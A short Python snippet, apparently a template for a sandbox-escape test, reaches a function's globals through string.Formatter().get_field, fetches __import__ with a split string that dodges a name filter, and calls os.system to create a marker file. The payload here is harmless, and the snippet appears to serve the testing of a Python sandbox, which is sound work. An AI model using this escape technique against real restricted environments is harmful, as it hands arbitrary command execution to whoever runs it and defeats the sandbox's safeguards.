# escape: string.Formatter().get_field walks attributes without the guard
# effect: marker
import string
def probe():
    pass
g, _ = string.Formatter().get_field("0.__globals__", [probe], {{}})
b = g["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
imp("os").system("touch {marker}")
return "done"
